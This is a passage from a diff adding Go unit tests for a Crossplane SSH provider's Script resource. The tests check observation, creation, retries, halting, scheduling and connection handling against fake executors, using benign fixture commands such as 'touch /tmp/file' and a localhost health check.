@@ -17,14 +17,41 @@ limitations under the License.
 package script
 
 import (
+	"bytes"
 	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/json"
+	"net"
+	"regexp"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+	"github.com/pkg/errors"
+	"golang.org/x/crypto/openpgp" // nolint: staticcheck
+	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/knownhosts"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/util/intstr"
+	"sigs.k8s.io/controller-runtime/pkg/client"
 
+	xpv1 "github.com/crossplane/crossplane-runtime/apis/common/v1"
+	"github.com/crossplane/crossplane-runtime/pkg/event"
+	"github.com/crossplane/crossplane-runtime/pkg/meta"
 	"github.com/crossplane/crossplane-runtime/pkg/reconciler/managed"
 	"github.com/crossplane/crossplane-runtime/pkg/resource"
+	"github.com/crossplane/crossplane-runtime/pkg/resource/fake"
 	"github.com/crossplane/crossplane-runtime/pkg/test"
+
+	apisv1alpha1 "github.com/crossplane/provider-ssh/apis/v1alpha1"
+	sshv1alpha1 "github.com/crossplane/provider-ssh/internal/client"
+	sshfake "github.com/crossplane/provider-ssh/internal/client/fake"
+	"github.com/crossplane/provider-ssh/internal/policy"
+	"github.com/crossplane/provider-ssh/internal/signature"
 )
 
 // Unlike many Kubernetes projects Crossplane does not use third party testing
@@ -35,9 +62,126 @@ import (
 // https://github.com/golang/go/wiki/TestComments
 // https://github.com/crossplane/crossplane/blob/master/CONTRIBUTING.md#contributing-code
 
+var errBoom = errors.New("boom")
+
+type scriptModifier func(*apisv1alpha1.Script)
+
+func withExecutionPolicy(p apisv1alpha1.ExecutionPolicy) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.ExecutionPolicy = p }
+}
+
+func withSuspend() scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.Suspend = true }
+}
+
+func withDeleted() scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		now := metav1.Now()
+		cr.SetDeletionTimestamp(&now)
+	}
+}
+
+func withCleanup(script string, p apisv1alpha1.CleanupPolicy) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		cr.Spec.ForProvider.CleanupScript = script
+		cr.Spec.ForProvider.CleanupPolicy = p
+	}
+}
+
+func withRunNow(token string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		meta.AddAnnotations(cr, map[string]string{apisv1alpha1.AnnotationKeyRunNow: token})
+	}
+}
+
+func withLastRunNowToken(token string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Status.AtProvider.LastRunNowToken = token }
+}
+
+func withMaxConsecutiveFailures(n int32) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.MaxConsecutiveFailures = &n }
+}
+
+func withConsecutiveFailures(n int32) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Status.AtProvider.ConsecutiveFailures = n }
+}
+
+func withResume(token string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		meta.AddAnnotations(cr, map[string]string{apisv1alpha1.AnnotationKeyResume: token})
+	}
+}
+
+func withGeneration(g int64) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.SetGeneration(g) }
+}
+
+func withDependsOn(names ...string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		for _, n := range names {
+			cr.Spec.ForProvider.DependsOn = append(cr.Spec.ForProvider.DependsOn, apisv1alpha1.ScriptReference{Name: n})
+		}
+	}
+}
+
+func withCreateSucceeded() scriptModifier {
+	return func(cr *apisv1alpha1.Script) { meta.SetExternalCreateSucceeded(cr, time.Now()) }
+}
+
+func withCreateFailed() scriptModifier {
+	return func(cr *apisv1alpha1.Script) { meta.SetExternalCreateFailed(cr, time.Now()) }
+}
+
+func withInit(script string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.InitScript = script }
+}
+
+func withStatusCheck(script string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.StatusCheckScript = script }
+}
+
+// executor returns a fake executor connected to 10.0.0.1 whose scripts exit
+// with the supplied code, holding the supplied files.
+func executor(t *testing.T, code int, files ...string) *sshfake.Executor {
+	t.Helper()
+	x := &sshfake.Executor{
+		Host: sshv1alpha1.Remote{Host: "10.0.0.1", Port: "22", Username: "deploy"},
+		MockRun: func(string) (string, string, error) {
+			if code != 0 {
+				return "", "", sshfake.ExitError(code)
+			}
+			return "", "", nil
+		},
+	}
+	for _, f := range files {
+		if err := x.Upload(context.Background(), f, nil, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return x
+}
+
+func script(m ...scriptModifier) *apisv1alpha1.Script {
+	cr := &apisv1alpha1.Script{}
+	cr.SetName("test")
+	// The default management policies of the CRD.
+	cr.SetManagementPolicies(xpv1.ManagementPolicies{xpv1.ManagementActionAll})
+	for _, f := range m {
+		f(cr)
+	}
+	return cr
+}
+
 func TestObserve(t *testing.T) {
 	type fields struct {
-		service interface{}
+		kube    client.Client
+		service sshv1alpha1.RemoteExecutor
+	}
+
+	endpoint := managed.ConnectionDetails{
+		keyHost:     []byte("10.0.0.1"),
+		keyPort:     []byte("22"),
+		keyUsername: []byte("deploy"),
 	}
 
 	type args struct {
@@ -56,12 +200,179 @@ func TestObserve(t *testing.T) {
 		args   args
 		want   want
 	}{
-		// TODO: Add test cases.
+		"NotScript": {
+			reason: "We should return an error if the managed resource is not a Script.",
+			args: args{
+				ctx: context.Background(),
+				mg:  &fake.Managed{},
+			},
+			want: want{
+				err: errors.New(errNotScript),
+			},
+		},
+		"Suspended": {
+			reason: "A suspended Script should be reported as existing and up to date without running any script.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withSuspend()),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+			},
+		},
+		"Halted": {
+			reason: "A halted Script should be reported as existing and up to date without running any script.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withMaxConsecutiveFailures(3), withConsecutiveFailures(3)),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+			},
+		},
+		"CheckNotDue": {
+			reason: "A Script whose next status check is not due should be reported as existing and up to date without running any script.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour)),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+			},
+		},
+		"DeletedWithoutCleanup": {
+			reason: "A deleted Script whose cleanup is skipped should be reported as gone without running any script.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withDeleted(), withCleanup("rm -f /tmp/file", apisv1alpha1.CleanupPolicySkip)),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: false},
+			},
+		},
+		"WaitingForDependencies": {
+			reason: "A Script whose dependencies are not Ready should be reported as existing and up to date so that no script is executed.",
+			fields: fields{
+				kube: &test.MockClient{MockGet: test.NewMockGetFn(nil)},
+			},
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withDependsOn("network")),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+			},
+		},
+		"DependencyGetError": {
+			reason: "We should return an error if a dependency cannot be retrieved.",
+			fields: fields{
+				kube: &test.MockClient{MockGet: test.NewMockGetFn(errBoom)},
+			},
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withDependsOn("network")),
+			},
+			want: want{
+				err: errors.Wrap(errBoom, errGetDependency),
+			},
+		},
+		"RunNowPending": {
+			reason: "A Script with an unexecuted run-now token should be reported as not up to date regardless of its status check.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withRunNow("a"), withLastRunNowToken("b")),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+			},
+		},
+		"RunOnceSucceeded": {
+			reason: "A RunOnce Script whose initScript succeeded should be reported as existing and up to date without running any script.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withExecutionPolicy(apisv1alpha1.ExecutionPolicyRunOnce), withCreateSucceeded()),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+			},
+		},
+		"RunOnceFailed": {
+			reason: "A RunOnce Script whose initScript failed should not be created again.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withExecutionPolicy(apisv1alpha1.ExecutionPolicyRunOnce), withCreateFailed()),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+			},
+		},
+		"NotConnected": {
+			reason: "We should return an error rather than panic if the state marker must be read without a connection.",
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withStatusCheck("test -f /tmp/file"), withExternalName("/var/lib/provider-ssh/test.json")),
+			},
+			want: want{
+				err: errors.New(errNotConnected),
+			},
+		},
+		"StatusCheckSucceeded": {
+			reason: "A Script whose statusCheckScript succeeds should be reported as existing and up to date.",
+			fields: fields{
+				service: executor(t, 0),
+			},
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withStatusCheck("test -f /tmp/file")),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true, ConnectionDetails: endpoint},
+			},
+		},
+		"StatusCheckMissing": {
+			reason: "A Script whose statusCheckScript exits with the missing exit code should be reported as not existing.",
+			fields: fields{
+				service: executor(t, apisv1alpha1.DefaultExitCodeMissing),
+			},
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withStatusCheck("test -f /tmp/file")),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: false, ConnectionDetails: endpoint},
+			},
+		},
+		"StatusCheckFailed": {
+			reason: "We should return an error if the statusCheckScript exits with the failed exit code.",
+			fields: fields{
+				service: executor(t, apisv1alpha1.DefaultExitCodeFailed),
+			},
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withStatusCheck("test -f /tmp/file")),
+			},
+			want: want{
+				err: errors.Wrap(sshfake.ExitError(apisv1alpha1.DefaultExitCodeFailed), "Script failed with exit code 1."),
+			},
+		},
+		"Adopted": {
+			reason: "A missing resource whose state marker exists on the host should be adopted and repaired by the updateScript.",
+			fields: fields{
+				service: executor(t, apisv1alpha1.DefaultExitCodeMissing, "/var/lib/provider-ssh/test.json"),
+			},
+			args: args{
+				ctx: context.Background(),
+				mg:  script(withStatusCheck("test -f /tmp/file"), withExternalName("/var/lib/provider-ssh/test.json")),
+			},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false, ConnectionDetails: endpoint},
+			},
+		},
 	}
 
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
-			e := external{service: tc.fields.service}
+			e := external{kube: tc.fields.kube, service: tc.fields.service}
 			got, err := e.Observe(tc.args.ctx, tc.args.mg)
 			if diff := cmp.Diff(tc.want.err, err, test.EquateErrors()); diff != "" {
 				t.Errorf("\n%s\ne.Observe(...): -want error, +got error:\n%s\n", tc.reason, diff)
@@ -72,3 +383,1690 @@ func TestObserve(t *testing.T) {
 		})
 	}
 }
+
+func TestCreate(t *testing.T) {
+	marker := "/var/lib/provider-ssh/test.json"
+
+	type want struct {
+		scripts []string
+		marker  bool
+		err     error
+	}
+
+	cases := map[string]struct {
+		reason  string
+		service *sshfake.Executor
+		mg      *apisv1alpha1.Script
+		want    want
+	}{
+		"InitSucceeded": {
+			reason:  "The initScript should be executed on the host and the state marker written once it succeeded.",
+			service: executor(t, 0),
+			mg:      script(withInit("touch /tmp/file"), withExternalName(marker)),
+			want: want{
+				scripts: []string{"touch /tmp/file"},
+				marker:  true,
+			},
+		},
+		"InitFailed": {
+			reason:  "We should return the error of a failing initScript without writing the state marker.",
+			service: executor(t, 2),
+			mg:      script(withInit("touch /tmp/file"), withExternalName(marker)),
+			want: want{
+				scripts: []string{"touch /tmp/file"},
+				err:     sshfake.ExitError(2),
+			},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			e := external{service: tc.service, recorder: event.NewNopRecorder()}
+			_, err := e.Create(context.Background(), tc.mg)
+			if diff := cmp.Diff(tc.want.err, err, test.EquateErrors()); diff != "" {
+				t.Errorf("\n%s\ne.Create(...): -want error, +got error:\n%s\n", tc.reason, diff)
+			}
+			if diff := cmp.Diff(tc.want.scripts, tc.service.Scripts()); diff != "" {
+				t.Errorf("\n%s\ne.Create(...): -want scripts, +got scripts:\n%s\n", tc.reason, diff)
+			}
+			_, err = tc.service.Fetch(context.Background(), marker, maxMarkerSize)
+			if diff := cmp.Diff(tc.want.marker, err == nil); diff != "" {
+				t.Errorf("\n%s\ne.Create(...): -want marker, +got marker:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestCreateInitRetry(t *testing.T) {
+	delay := metav1.Duration{Duration: time.Millisecond}
+	cases := map[string]struct {
+		reason  string
+		retry   *apisv1alpha1.InitRetryPolicy
+		policy  apisv1alpha1.ExecutionPolicy
+		codes   []int
+		runs    int
+		wantErr error
+	}{
+		"Recovered": {
+			reason: "A transient failure of the initScript should be retried within the reconcile.",
+			retry:  &apisv1alpha1.InitRetryPolicy{Attempts: 3, Delay: &delay},
+			codes:  []int{2, 0},
+			runs:   2,
+		},
+		"Exhausted": {
+			reason:  "The error of the last attempt should be returned once the attempts are exhausted.",
+			retry:   &apisv1alpha1.InitRetryPolicy{Attempts: 2, Delay: &delay},
+			codes:   []int{2, 3},
+			runs:    2,
+			wantErr: sshfake.ExitError(3),
+		},
+		"NoRetry": {
+			reason:  "A failing initScript should not be retried by default.",
+			codes:   []int{2},
+			runs:    1,
+			wantErr: sshfake.ExitError(2),
+		},
+		"RunOnce": {
+			reason:  "The initScript of a RunOnce Script should never be retried.",
+			retry:   &apisv1alpha1.InitRetryPolicy{Attempts: 3, Delay: &delay},
+			policy:  apisv1alpha1.ExecutionPolicyRunOnce,
+			codes:   []int{2},
+			runs:    1,
+			wantErr: sshfake.ExitError(2),
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			codes := tc.codes
+			x := &sshfake.Executor{MockRun: func(string) (string, string, error) {
+				code := codes[0]
+				codes = codes[1:]
+				if code != 0 {
+					return "", "", sshfake.ExitError(code)
+				}
+				return "", "", nil
+			}}
+			cr := script(withInit("apt-get install -y nginx"), withExecutionPolicy(tc.policy))
+			cr.Spec.ForProvider.InitRetry = tc.retry
+			e := external{service: x, recorder: event.NewNopRecorder()}
+			_, err := e.Create(context.Background(), cr)
+			if diff := cmp.Diff(tc.wantErr, err, test.EquateErrors()); diff != "" {
+				t.Errorf("\n%s\ne.Create(...): -want error, +got error:\n%s\n", tc.reason, diff)
+			}
+			if diff := cmp.Diff(tc.runs, len(x.Scripts())); diff != "" {
+				t.Errorf("\n%s\ne.Create(...): -want executions, +got executions:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestHalted(t *testing.T) {
+	halt := func(m ...scriptModifier) *apisv1alpha1.Script {
+		cr := script(append([]scriptModifier{withMaxConsecutiveFailures(3), withGeneration(2)}, m...)...)
+		for i := 0; i < 3; i++ {
+			recordResult(cr, true)
+		}
+		return cr
+	}
+
+	cases := map[string]struct {
+		reason string
+		cr     *apisv1alpha1.Script
+		want   bool
+	}{
+		"NoLimit": {
+			reason: "A Script without maxConsecutiveFailures should never be halted.",
+			cr:     script(withConsecutiveFailures(10)),
+			want:   false,
+		},
+		"BelowLimit": {
+			reason: "A Script below its maxConsecutiveFailures should not be halted.",
+			cr:     script(withMaxConsecutiveFailures(3), withConsecutiveFailures(2)),
+			want:   false,
+		},
+		"Halted": {
+			reason: "A Script reaching its maxConsecutiveFailures should be halted.",
+			cr:     halt(),
+			want:   true,
+		},
+		"ResumeTokenBeforeHalt": {
+			reason: "A resume token set before the Script was halted should not resume it.",
+			cr:     halt(withResume("a")),
+			want:   true,
+		},
+		"Resumed": {
+			reason: "A new resume token should resume a halted Script.",
+			cr: func() *apisv1alpha1.Script {
+				cr := halt(withResume("a"))
+				withResume("b")(cr)
+				return cr
+			}(),
+			want: false,
+		},
+		"SpecChanged": {
+			reason: "A spec change should resume a halted Script.",
+			cr: func() *apisv1alpha1.Script {
+				cr := halt()
+				withGeneration(3)(cr)
+				return cr
+			}(),
+			want: false,
+		},
+		"Deleted": {
+			reason: "Deletion should never be halted.",
+			cr: func() *apisv1alpha1.Script {
+				cr := halt()
+				withDeleted()(cr)
+				return cr
+			}(),
+			want: false,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			if diff := cmp.Diff(tc.want, halted(tc.cr)); diff != "" {
+				t.Errorf("\n%s\nhalted(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestResume(t *testing.T) {
+	cr := script(withMaxConsecutiveFailures(2), withGeneration(1))
+	recordResult(cr, true)
+	recordResult(cr, true)
+	if diff := cmp.Diff(corev1.ConditionTrue, cr.GetCondition(apisv1alpha1.TypeHalted).Status); diff != "" {
+		t.Errorf("recordResult(...): -want halted, +got halted:\n%s\n", diff)
+	}
+
+	withResume("a")(cr)
+	resume(cr)
+	if diff := cmp.Diff(corev1.ConditionFalse, cr.GetCondition(apisv1alpha1.TypeHalted).Status); diff != "" {
+		t.Errorf("resume(...): -want halted, +got halted:\n%s\n", diff)
+	}
+	want := apisv1alpha1.ScriptObservation{LastResumeToken: "a"}
+	if diff := cmp.Diff(want, cr.Status.AtProvider); diff != "" {
+		t.Errorf("resume(...): -want, +got:\n%s\n", diff)
+	}
+
+	recordResult(cr, true)
+	recordResult(cr, false)
+	if diff := cmp.Diff(int32(0), cr.Status.AtProvider.ConsecutiveFailures); diff != "" {
+		t.Errorf("recordResult(...): -want failures, +got failures:\n%s\n", diff)
+	}
+	if diff := cmp.Diff(false, halted(cr)); diff != "" {
+		t.Errorf("halted(...): -want, +got:\n%s\n", diff)
+	}
+}
+
+func withTTL(seconds int64) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.TTLSecondsAfterFinished = &seconds }
+}
+
+func withPollInterval(d time.Duration) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.PollInterval = &metav1.Duration{Duration: d} }
+}
+
+func withStatusCheckInterval(d time.Duration) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.StatusCheckInterval = &metav1.Duration{Duration: d} }
+}
+
+func withNextCheck(in time.Duration) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		next := metav1.NewTime(time.Now().Add(in))
+		cr.Status.AtProvider.NextCheckTime = &next
+		cr.Status.AtProvider.CheckedGeneration = cr.GetGeneration()
+	}
+}
+
+func TestPollInterval(t *testing.T) {
+	poll := time.Minute
+
+	cases := map[string]struct {
+		reason string
+		mg     resource.Managed
+		want   time.Duration
+	}{
+		"NoTTL": {
+			reason: "Scripts without a TTL should use the supplied poll interval.",
+			mg:     script(withExecutionPolicy(apisv1alpha1.ExecutionPolicyRunOnce), withCreateSucceeded()),
+			want:   poll,
+		},
+		"NotFinished": {
+			reason: "The TTL of a RunOnce Script should not apply before its initScript succeeded.",
+			mg:     script(withExecutionPolicy(apisv1alpha1.ExecutionPolicyRunOnce), withTTL(0)),
+			want:   poll,
+		},
+		"Expired": {
+			reason: "Scripts whose TTL expired should not be requeued.",
+			mg:     script(withExecutionPolicy(apisv1alpha1.ExecutionPolicyRunOnce), withCreateSucceeded(), withTTL(0)),
+			want:   0,
+		},
+		"NotExpired": {
+			reason: "Scripts whose TTL expires in more than a poll interval should use the supplied poll interval.",
+			mg:     script(withExecutionPolicy(apisv1alpha1.ExecutionPolicyRunOnce), withCreateSucceeded(), withTTL(3600)),
+			want:   poll,
+		},
+		"PollInterval": {
+			reason: "The pollInterval of a Script should override the supplied poll interval.",
+			mg:     script(withPollInterval(time.Hour)),
+			want:   time.Hour,
+		},
+		"PollIntervalTTL": {
+			reason: "Scripts whose TTL expired should not be requeued, regardless of their pollInterval.",
+			mg:     script(withExecutionPolicy(apisv1alpha1.ExecutionPolicyRunOnce), withCreateSucceeded(), withTTL(0), withPollInterval(time.Hour)),
+			want:   0,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			got := pollInterval(tc.mg, poll)
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("\n%s\npollInterval(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestPollIntervalNextCheck(t *testing.T) {
+	got := pollInterval(script(withPollInterval(time.Hour), withNextCheck(time.Minute)), 10*time.Second)
+	if got <= 0 || got > time.Minute {
+		t.Errorf("pollInterval(...): want the time until the next status check, got %s", got)
+	}
+}
+
+func TestCheckDue(t *testing.T) {
+	cases := map[string]struct {
+		reason string
+		cr     *apisv1alpha1.Script
+		want   bool
+	}{
+		"NoInterval": {
+			reason: "The state of a Script without a scheduled check should always be checked.",
+			cr:     script(),
+			want:   true,
+		},
+		"NotDue": {
+			reason: "The state of a Script should not be checked before its next check time.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour)),
+			want:   false,
+		},
+		"Due": {
+			reason: "The state of a Script should be checked once its next check time passed.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(-time.Second)),
+			want:   true,
+		},
+		"SpecChanged": {
+			reason: "The state of a Script should be checked once its spec changed.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour), withGeneration(2)),
+			want:   true,
+		},
+		"Deleted": {
+			reason: "The state of a deleted Script should be checked so that its cleanupScript runs.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour), withDeleted()),
+			want:   true,
+		},
+		"RetryAfter": {
+			reason: "The state of a Script should be checked once the retryTime requested by its statusCheckScript passed.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour), withRetryTime(-time.Second)),
+			want:   true,
+		},
+		"ReapplyDue": {
+			reason: "The state of a Script should be checked once its reapplyInterval elapsed.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour), withReapply(time.Minute, 2*time.Minute)),
+			want:   true,
+		},
+		"RetryAfterNotDue": {
+			reason: "The state of a Script should not be checked before the retryTime requested by its statusCheckScript.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour), withRetryTime(time.Minute)),
+			want:   false,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			got := checkDue(tc.cr)
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("\n%s\ncheckDue(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestScheduleCheck(t *testing.T) {
+	cases := map[string]struct {
+		reason   string
+		cr       *apisv1alpha1.Script
+		upToDate bool
+		want     bool
+	}{
+		"NoInterval": {
+			reason:   "No check should be scheduled for a Script without a statusCheckInterval.",
+			cr:       script(),
+			upToDate: true,
+		},
+		"UpToDate": {
+			reason:   "The next check of an up to date resource should be deferred by the statusCheckInterval.",
+			cr:       script(withStatusCheckInterval(time.Hour)),
+			upToDate: true,
+			want:     true,
+		},
+		"NotUpToDate": {
+			reason: "A resource that is not up to date should be checked again by the next observation.",
+			cr:     script(withStatusCheckInterval(time.Hour), withNextCheck(time.Hour)),
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			scheduleCheck(tc.cr, tc.upToDate)
+			if diff := cmp.Diff(tc.want, !checkDue(tc.cr)); diff != "" {
+				t.Errorf("\n%s\nscheduleCheck(...): -want scheduled, +got scheduled:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestCreateGracePeriod(t *testing.T) {
+	grace := metav1.Duration{Duration: time.Minute}
+	cases := map[string]struct {
+		reason string
+		cr     *apisv1alpha1.Script
+		grace  *metav1.Duration
+		code   int
+		want   bool
+	}{
+		"Deferred": {
+			reason: "The first check after the resource was created should be deferred by the createGracePeriod.",
+			cr:     script(withInit("systemctl start app"), withStatusCheck("curl -fs localhost:8080/healthz")),
+			grace:  &grace,
+			want:   true,
+		},
+		"NoGracePeriod": {
+			reason: "The resource should be checked right after it was created by default.",
+			cr:     script(withInit("systemctl start app"), withStatusCheck("curl -fs localhost:8080/healthz")),
+		},
+		"InitFailed": {
+			reason: "A failed creation should be checked again by the next observation.",
+			cr:     script(withInit("systemctl start app"), withStatusCheck("curl -fs localhost:8080/healthz")),
+			grace:  &grace,
+			code:   2,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			tc.cr.Spec.ForProvider.CreateGracePeriod = tc.grace
+			e := external{service: executor(t, tc.code), recorder: event.NewNopRecorder()}
+			_, _ = e.Create(context.Background(), tc.cr)
+			if diff := cmp.Diff(tc.want, !checkDue(tc.cr)); diff != "" {
+				t.Errorf("\n%s\ne.Create(...): -want check deferred, +got check deferred:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestConnectOverrides(t *testing.T) {
+	port := 2222
+	kube := &test.MockClient{
+		MockGet: func(_ context.Context, _ client.ObjectKey, obj client.Object) error {
+			switch o := obj.(type) {
+			case *apisv1alpha1.ProviderConfig:
+				o.Spec.Credentials.Source = xpv1.CredentialsSourceSecret
+				o.Spec.Credentials.SecretRef = &xpv1.SecretKeySelector{Key: "config"}
+			case *corev1.Secret:
+				o.Data = map[string][]byte{"config": []byte(`{"hostIP":"10.0.0.1","hostPort":"22","username":"admin"}`)}
+			}
+			return nil
+		},
+	}
+
+	cases := map[string]struct {
+		reason   string
+		endpoint *apisv1alpha1.Endpoint
+		username string
+		want     sshv1alpha1.Config
+	}{
+		"NoEndpoint": {
+			reason: "The host of the ProviderConfig should be used without an endpoint.",
+			want:   sshv1alpha1.Config{RemoteHostIP: "10.0.0.1", RemoteHostPort: 22, Username: "admin"},
+		},
+		"Endpoint": {
+			reason:   "The endpoint should override the host of the ProviderConfig.",
+			endpoint: &apisv1alpha1.Endpoint{Host: "10.0.0.2", Port: &port},
+			want:     sshv1alpha1.Config{RemoteHostIP: "10.0.0.2", RemoteHostPort: 2222, Username: "admin"},
+		},
+		"Username": {
+			reason:   "The username should override the user of the ProviderConfig.",
+			username: "app",
+			want:     sshv1alpha1.Config{RemoteHostIP: "10.0.0.1", RemoteHostPort: 22, Username: "app"},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			var got sshv1alpha1.Config
+			c := &connector{
+				kube:  kube,
+				usage: resource.TrackerFn(func(_ context.Context, _ resource.Managed) error { return nil }),
+				newServiceFn: func(_ context.Context, creds []byte) (*ssh.Client, error) {
+					return nil, json.Unmarshal(creds, &got)
+				},
+			}
+			cr := script(func(cr *apisv1alpha1.Script) {
+				cr.Spec.ForProvider.Endpoint = tc.endpoint
+				cr.Spec.ForProvider.Username = tc.username
+				cr.SetProviderConfigReference(&xpv1.Reference{Name: "default"})
+			})
+			if _, err := c.Connect(context.Background(), cr); err != nil {
+				t.Fatalf("\n%s\nc.Connect(...): unexpected error: %v\n", tc.reason, err)
+			}
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("\n%s\nc.Connect(...): -want credentials, +got credentials:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestConnectUnreachable(t *testing.T) {
+	kube := &test.MockClient{
+		MockGet: func(_ context.Context, _ client.ObjectKey, obj client.Object) error {
+			switch o := obj.(type) {
+			case *apisv1alpha1.ProviderConfig:
+				o.Spec.Credentials.Source = xpv1.CredentialsSourceSecret
+				o.Spec.Credentials.SecretRef = &xpv1.SecretKeySelector{Key: "config"}
+			case *corev1.Secret:
+				o.Data = map[string][]byte{"config": []byte(`{"hostIP":"10.0.0.1","hostPort":"22","username":"admin"}`)}
+			}
+			return nil
+		},
+	}
+	refused := &net.OpError{Op: "dial", Net: "tcp", Err: errors.New("connect: connection refused")}
+
+	type want struct {
+		err   bool
+		o     managed.ExternalObservation
+		ready xpv1.Condition
+	}
+	cases := map[string]struct {
+		reason string
+		dial   error
+		cr     *apisv1alpha1.Script
+		want   want
+	}{
+		"Unreachable": {
+			reason: "A Script whose host is unreachable should be reported Unavailable, without executing any script or failing the reconcile.",
+			dial:   refused,
+			cr:     script(withStatusCheck("true")),
+			want: want{
+				o:     managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				ready: xpv1.Unavailable().WithMessage(errHostUnreachable + ": cannot create new Service: dial tcp: connect: connection refused"),
+			},
+		},
+		"AuthenticationFailed": {
+			reason: "A host rejecting the credentials should fail the connection.",
+			dial:   errors.New("ssh: handshake failed: ssh: unable to authenticate"),
+			cr:     script(withStatusCheck("true")),
+			want:   want{err: true},
+		},
+		"Deleted": {
+			reason: "A deleted Script whose host is unreachable should fail the connection, so that its cleanup is retried.",
+			dial:   refused,
+			cr:     script(withStatusCheck("true"), withCleanup("true", apisv1alpha1.CleanupPolicyRun), withDeleted()),
+			want:   want{err: true},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			c := &connector{
+				kube:  kube,
+				usage: resource.TrackerFn(func(_ context.Context, _ resource.Managed) error { return nil }),
+				newServiceFn: func(_ context.Context, _ []byte) (*ssh.Client, error) {
+					return nil, tc.dial
+				},
+			}
+			tc.cr.SetProviderConfigReference(&xpv1.Reference{Name: "default"})
+			got := want{}
+			e, err := c.Connect(context.Background(), tc.cr)
+			if err != nil {
+				got.err = true
